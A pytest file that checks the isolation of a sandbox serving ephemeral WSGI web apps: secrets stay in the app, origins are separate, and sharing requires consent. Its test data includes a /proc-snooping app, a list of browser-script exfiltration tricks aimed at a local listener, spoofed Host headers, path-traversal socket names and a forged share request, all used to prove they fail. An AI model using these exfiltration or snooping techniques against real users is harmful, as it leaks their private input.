"""Ephemeral apps: what is typed into one lives in its process, is seen nowhere else, and ends with it."""

from __future__ import annotations

import asyncio
import hashlib
import http.client
import re
import socket
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Final

import pytest
from playwright.async_api import Error, Page, async_playwright, expect

from iact.core.errors import ModuleLost
from iact.core.modules.client import Completed, ModuleClient, StateChange
from iact.sandbox.docker.host import DockerInstance
from tests.sandbox.backends import AnyHost, AnyInstance, Backend, either_backend
from tests.sandbox.inside import Caller
from tests.web.browser import ARGUMENTS, PATIENCE, chromium

SECRET = "hunter2-canary-5f1e"
FORM = """
import sys
kept = []
def app(environ, start_response):
    if environ["REQUEST_METHOD"] == "POST":
        body = environ["wsgi.input"].read(int(environ["CONTENT_LENGTH"] or 0)).decode()
        kept.append(body)
        print("printed:", body)
        print("printed:", body, file=sys.stderr)
        if "fail" in environ["PATH_INFO"]:
            raise RuntimeError(body)
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [f"kept {len(kept)}".encode()]
"""
SPY = """
import os
def app(environ, start_response):
    seen = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("mem", "environ", "maps"):
            try:
                words = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
                open(f"/proc/{pid}/{name}", "rb").close()
                # What starts and supervises others knows nothing of them but their numbers.
                knows = words[0].endswith(b"python3") and b"serve" in words or words[2:3] and words[2].endswith(b"runner.py")
                if knows and int(pid) != os.getpid():
                    seen.append(f"{pid}/{name} {words}")
            except OSError:
                pass
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [repr(seen).encode()]
"""


def ask(instance: AnyInstance, app: str, method: str, path: str = "/", body: str = "") -> tuple[int, str]:
    """One request to an app, as the core's server would make it; status and body."""
    checked = instance.open_app(app)
    assert checked is not None
    connection = http.client.HTTPConnection("app", timeout=30)
    connection.sock = socket.socket(socket.AF_UNIX)
    connection.sock.settimeout(30)
    try:
        connection.sock.connect(checked.target.removeprefix("unix://"))
        connection.request(method, path, body=body or None)
        answer = connection.getresponse()
        return answer.status, answer.read().decode()
    finally:
        connection.close()
        checked.close()


pytestmark = either_backend("docker")


@pytest.fixture
def app_module(
    loop: asyncio.Runner, host: AnyHost, workspace: Path, backend: Backend
) -> Iterator[AnyInstance]:
    """An instance, which serves one app."""
    instance = loop.run(backend.start(host, "app", session="one", workspace=workspace))
    yield instance
    loop.run(instance.stop())


async def served(caller: Caller, source: str) -> str:
    outcome = await caller.outcome("serve", {"source": source})
    assert isinstance(outcome, Completed), outcome
    app = outcome.data["app"]
    assert isinstance(app, str)
    assert outcome.state == StateChange("serving", (), f"the app {app} is served")
    return app


async def printed(module: AnyInstance) -> str:
    """All that the module has printed; with an engine, also the names of the files that hold the secret."""
    if not isinstance(module, DockerInstance):
        return await module.jail.printed()
    found = module.container.exec_run(["grep", "-rl", SECRET, "/tmp", "/run/iact"]).output
    assert found == b""
    return module.container.logs().decode()


def test_what_is_typed_is_kept_in_the_app_and_seen_nowhere_else(
    loop: asyncio.Runner, app_module: AnyInstance
) -> None:
    async def scenario() -> None:
        async with ModuleClient(app_module.target) as client:
            caller = Caller(client, "/a")
            app = await served(caller, FORM)
            assert await asyncio.to_thread(ask, app_module, app, "GET") == (200, "kept 0")
            assert await asyncio.to_thread(ask, app_module, app, "POST", "/", SECRET) == (200, "kept 1")
            assert (await asyncio.to_thread(ask, app_module, app, "POST", "/fail", SECRET))[0] == 500
            told = await caller.text("stop")
            assert SECRET not in await printed(app_module) + told
            assert app_module.open_app(app) is None
            assert "NotOffered" in await caller.error("stop")

    loop.run(scenario())


def test_an_app_looks_into_no_process_that_answers_its_agent(
    loop: asyncio.Runner, app_module: AnyInstance
) -> None:
    async def scenario() -> None:
        async with ModuleClient(app_module.target) as client:
            spy = await served(Caller(client, "/spy"), SPY)
            assert await asyncio.to_thread(ask, app_module, spy, "GET") == (200, "[]")

    loop.run(scenario())


def test_an_instance_serves_one_app_and_then_no_other(loop: asyncio.Runner, app_module: AnyInstance) -> None:
    peek = "print(open('/tmp/kept').read())"

    async def scenario() -> None:
        async with ModuleClient(app_module.target) as client:
            caller, other = Caller(client, "/a"), Caller(client, "/b")
            await served(caller, FORM)
            assert "NotOffered" in await caller.error("serve", source=FORM)
            assert "not cleared away" in await other.error("serve", source=peek)
            await caller.text("stop")
            assert "not cleared away" in await caller.error("serve", source=peek)

    loop.run(scenario())


FRAMED: Final = "Sec-Fetch-Dest: iframe\r\nSec-Fetch-Mode: navigate\r\n"
A_WINDOW: Final = "Sec-Fetch-Dest: document\r\nSec-Fetch-Mode: navigate\r\n"


async def browse(
    url: str, host: str | None = None, sent: str = "", said: str = FRAMED, path: str = "/"
) -> tuple[str, dict[str, str], str]:
    """A request as a browser makes it: status line, headers, body. `said`: further headers."""
    name, port = url.removeprefix("http://").rstrip("/").split(":")
    reader, writer = await asyncio.open_connection("127.0.0.1", int(port))
    head = f"{'POST' if sent else 'GET'} {path} HTTP/1.1\r\nHost: {host or f'{name}:{port}'}\r\nContent-Length: {len(sent)}"
    writer.write(f"{head}\r\n{said}Connection: keep-alive\r\n\r\n{sent}".encode())
    async with asyncio.timeout(300):
        answer = (await reader.read()).decode()
    writer.close()
    top, _, body = answer.partition("\r\n\r\n")
    status, *lines = top.split("\r\n")
    return status, {line.partition(": ")[0].lower(): line.partition(": ")[2] for line in lines}, body


async def addresses(caller: Caller, source: str) -> tuple[str, str]:
    """Serve an app; the address that its agent tells, and that of the app in the frame."""
    outcome = await caller.outcome("serve", {"source": source})
    assert isinstance(outcome, Completed)
    url = str(outcome.data["url"])
    assert re.fullmatch(rf"http://{outcome.data['app']}\.localhost:\d+/", url)
    return url, url.replace("http://", "http://app.")


def test_the_user_opens_an_app_at_origins_of_its_own(loop: asyncio.Runner, app_module: AnyInstance) -> None:
    async def scenario() -> None:
        async with ModuleClient(app_module.target) as client:
            caller = Caller(client, "/user")
            url, framed = await addresses(caller, FORM)
            status, headers, body = await browse(url, said="")
            assert status.split()[1] == "200"
            assert f'src="{framed}"' in body
            assert "frame-ancestors 'none'" in headers["content-security-policy"]
            assert headers["cache-control"] == "no-store"

            status, headers, body = await browse(framed)
            assert (status.split()[1], body) == ("200", "kept 0")
            assert f"frame-ancestors 'self' {url.rstrip('/')};" in headers["content-security-policy"]
            assert (await browse(framed, sent=SECRET))[2] == "kept 1"

            status, headers, _ = await browse(framed, said=A_WINDOW)
            assert (status.split()[1], headers["location"]) == ("303", url)
            assert (await browse(framed, sent=SECRET, said=A_WINDOW))[0].split()[1] == "404"
            assert (await browse(framed))[2] == "kept 1"

            app, port = url.removeprefix("http://").rstrip("/").split(".localhost:")
            for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"{'0' * 16}.localhost:{port}", f"{app}.localhost:1",
                         f"{app}.localhost.evil.example:{port}", f"evil-{app}.localhost:{port}"):  # fmt: skip
                assert (await browse(url, host))[0].split()[1] == "404", host
            await caller.text("stop")
            for one in (url, framed):
                assert (await browse(one))[0].split()[1] == "404"

    loop.run(scenario())


HTML_FORM: Final = FORM.replace("text/plain", "text/html").replace(
    'f"kept {len(kept)}"',
    'f"<p>kept {len(kept)}</p><form method=post><input type=password name=k><button>Keep</button></form>"',
)


def test_a_real_browser_opens_it_and_types(loop: asyncio.Runner, app_module: AnyInstance) -> None:
    async def scenario() -> None:
        async with ModuleClient(app_module.target) as client, async_playwright() as playwright:
            url, _ = await addresses(Caller(client, "/real"), HTML_FORM)
            browser = await playwright.chromium.launch(executable_path=chromium(), args=list(ARGUMENTS))
            page = await browser.new_page()
            await page.goto(url, timeout=PATIENCE)
            app = page.frame_locator("iframe")
            await app.locator("input").fill(SECRET, timeout=PATIENCE)
            await app.locator("button").click(timeout=PATIENCE)
            await expect(app.locator("p")).to_have_text("kept 1", timeout=PATIENCE)
            await browser.close()

    loop.run(scenario())


OFFERS: Final = """
kept = []
def app(environ, start_response):
    if environ["REQUEST_METHOD"] == "POST":
        kept.append(environ["wsgi.input"].read(int(environ["CONTENT_LENGTH"] or 0)).decode())
    if environ["PATH_INFO"] == "/share":
        start_response("200 OK", [("Content-Type", "text/plain; charset=utf-8")])
        return [f"Typed: {kept[-1]}\\u202e\\u200b <b>".encode() if kept else b""]
    start_response("200 OK", [("Content-Type", "text/html")])
    return [f"<p>kept {len(kept)}</p><form method=post><input name=k><button>Keep</button></form>".encode()]
"""


def test_what_a_user_shares_at_an_app_is_what_they_saw(
    loop: asyncio.Runner, host: AnyHost, app_module: AnyInstance
) -> None:
    """In Chromium: nothing typed, nothing to share; what was seen is shared once; what changed meanwhile is not."""
    shared: list[tuple[str, str]] = []

    async def take(session: str, text: str) -> None:
        shared.append((session, text))

    async def scenario() -> None:
        host.on_shared = take
        async with ModuleClient(app_module.target) as client, async_playwright() as playwright:
            url, _ = await addresses(Caller(client, "/shares"), OFFERS)
            browser = await playwright.chromium.launch(executable_path=chromium(), args=list(ARGUMENTS))
            page = await browser.new_page()
            page.set_default_timeout(PATIENCE)

            await page.goto(url)
            await page.get_by_role("link", name="Share with the agent…").click()
            await expect(page.locator("main")).to_contain_text("nothing to share")
            await page.get_by_role("link", name="Back to the app").click()
            await typed(page, "blue", 1)

            await page.get_by_role("link", name="Share with the agent…").click()
            await expect(page.locator("pre")).to_have_text("Typed: k=blue <b>")
            await asyncio.to_thread(ask, app_module, url.split("//")[1].split(".")[0], "POST", "/", "k=red")
            await page.get_by_role("button", name="Share").click()
            await expect(page.locator("main")).to_contain_text("It has changed since you looked")
            assert shared == []

            await page.goto(f"{url}.iact/share")
            await expect(page.locator("pre")).to_have_text("Typed: k=red <b>")
            await page.get_by_role("button", name="Share").click()
            await expect(page.locator("main")).to_contain_text("It is shared")
            assert shared == [("one", "Typed: k=red <b>")]

            await page.reload()  # the same form once more
            await expect(page.locator("main")).to_contain_text("It has changed since you looked")
            assert len(shared) == 1
            await browser.close()

    loop.run(scenario())


async def typed(page: Page, text: str, count: int) -> None:
    """Type into the app's form, which then has kept so many."""
    app = page.frame_locator("iframe")
    await app.locator("input").fill(text)
    await app.locator("button").click()
    await expect(app.locator("p")).to_have_text(f"kept {count}")


def test_an_app_says_no_yes_for_its_user(
    loop: asyncio.Runner, host: AnyHost, app_module: AnyInstance
) -> None:
    """A request as the app's own page could make it, and one with a value that stood on no page."""
    shared: list[str] = []

    async def take(session: str, text: str) -> None:
        shared.append(text)

    async def scenario() -> None:
        host.on_shared = take
        async with ModuleClient(app_module.target) as client:
            url, framed = await addresses(Caller(client, "/forges"), OFFERS)
            app = url.removeprefix("http://").partition(".")[0]
            await asyncio.to_thread(ask, app_module, app, "POST", "/", "k=blue")
            form = f"digest={hashlib.sha256(b'Typed: k=blue <b>').hexdigest()}&once=guessed"
            for origin in (url.rstrip("/"), framed.rstrip("/"), "null"):
                status, _, body = await browse(
                    url, sent=form, said=f"Origin: {origin}\r\n", path="/.iact/share"
                )
                assert "It is shared" not in body, origin
                assert status.split()[1] in ("200", "404")
            assert shared == []

    loop.run(scenario())


WAYS_OUT: Final = (
    "location = there",
    "top.location = there",
    "parent.location = there",
    "open(there)",
    "open(there, '_top')",
    "open(there, '_parent')",
    "fetch(there, {mode: 'no-cors'})",
    "navigator.sendBeacon(there, 'x')",
    "new WebSocket(there.replace('http', 'ws'))",
    "new EventSource(there)",
    "new Image().src = there",
    "document.head.append(Object.assign(document.createElement('script'), {src: there}))",
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: there}))",
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: there}))",
    "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=' + there}))",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: there}))",
    "document.body.append(Object.assign(document.createElement('object'), {data: there}))",
    "link.click()",
    "blank.click()",
    "above.click()",
    "pings.click()",
    "away.submit()",
    "aboveAway.submit()",
    "navigator.serviceWorker.register('/worker.js')",
    "new Worker(URL.createObjectURL(new Blob([`fetch('${there}', {mode: 'no-cors'})`])))",
    "location = URL.createObjectURL(new Blob([`<script>location = '${there}'</` + 'script>'], {type: 'text/html'}))",
    "fetch('/away', {mode: 'no-cors'})",
    "location = '/away'",
)
"""What a script of a page can do to send what was typed somewhere."""

LEAKY: Final = '''
THERE = "{there}"
PAGE = """<!doctype html><p>here</p><a id=link href="{there}">a</a><a id=blank target=_blank href="{there}">a</a>
<a id=above target=_top href="{there}">a</a><a id=pings ping="{there}" href="#x">a</a>
<form id=away action="{there}"></form><form id=aboveAway target=_top action="{there}"></form>"""
def app(environ, start_response):
    path = environ["PATH_INFO"]
    if path == "/away":
        start_response("303 See Other", [("Location", THERE)])
        return [b""]
    kind = "text/javascript" if path == "/worker.js" else "text/html"
    start_response("200 OK", [("Content-Type", kind), ("Link", f"<{{THERE}}>; rel=preload; as=image"),
        ("Content-Security-Policy-Report-Only", f"img-src 'none'; report-uri {{THERE}}"), ("Refresh", f"0; url={{THERE}}")])
    return [PAGE.encode()]
'''


def test_nothing_that_its_page_does_reaches_another_origin_nor_moves_the_window(
    loop: asyncio.Runner, app_module: AnyInstance
) -> None:
    """In Chromium: whatever a script of the app tries, the listener hears nothing, and our page stays."""
    heard: list[str] = []

    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append((await reader.readline()).decode())
        writer.close()

    async def tried(page: Page, url: str, way: str, there: str) -> None:
        await page.goto(url, timeout=PATIENCE)
        app = page.frames[1]
        await app.wait_for_selector("p", timeout=PATIENCE)
        with suppress(Error):  # what is refused may raise, or take the frame's scripts away
            await app.evaluate(f"there = {there!r}; {way}; undefined")
        # What the frame began is over, or refused, before a further page of the same browser is there.
        other = await page.context.new_page()
        await other.goto(url, timeout=PATIENCE, wait_until="networkidle")
        await other.close()
        assert page.url == url, way
        assert len(page.context.pages) == 1, way
        assert heard == [], way

    async def scenario() -> None:
        server = await asyncio.start_server(listen, "127.0.0.1", 0)
        there = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/?d={SECRET}"
        async with server, ModuleClient(app_module.target) as client, async_playwright() as playwright:
            url, framed = await addresses(Caller(client, "/leaky"), LEAKY.format(there=there))
            browser = await playwright.chromium.launch(executable_path=chromium(), args=list(ARGUMENTS))
            page = await (await browser.new_context()).new_page()
            for way in WAYS_OUT:
                await tried(page, url, way, there)
            await page.goto(framed, timeout=PATIENCE)
            assert page.url == url, "a window that opens the app itself gets our page"

            with suppress(Error):
                await page.goto(there, timeout=PATIENCE)
            assert heard != [], "the listener hears a page that may"
            await browser.close()

    loop.run(scenario())


def test_an_app_that_can_not_serve_says_why(loop: asyncio.Runner, app_module: AnyInstance) -> None:
    async def scenario() -> None:
        async with ModuleClient(app_module.target) as client:
            caller = Caller(client, "/c")
            assert "must define a WSGI application" in await caller.error("serve", source="x = 1")
            assert "ZeroDivisionError" in await caller.error("serve", source="1 / 0")
            assert "NotOffered" in await caller.error("stop")

    loop.run(scenario())


def test_an_app_ends_by_itself(loop: asyncio.Runner, app_module: AnyInstance) -> None:
    dying = FORM + "\nimport os, threading\nthreading.Timer(0.2, os._exit, [0]).start()\n"

    async def scenario() -> None:
        async with ModuleClient(app_module.target) as client:
            app = await served(Caller(client, "/dying"), dying)
            async with asyncio.timeout(300):
                while app_module.open_app(app) is not None:  # noqa: ASYNC110 - it ends in the container
                    await asyncio.sleep(0.05)

    loop.run(scenario())


def test_only_a_socket_of_the_right_name_is_opened(loop: asyncio.Runner, app_module: AnyInstance) -> None:
    for name in ("../module", "", "0" * 15, "module", "0" * 16, "../" + "0" * 13):
        assert app_module.open_app(name) is None
    link = app_module.folder / f"app-{'a' * 16}.sock"
    link.symlink_to("module.sock")
    try:
        with pytest.raises(ModuleLost, match=re.compile("socket")):
            app_module.open_app("a" * 16)
    finally:
        link.unlink()
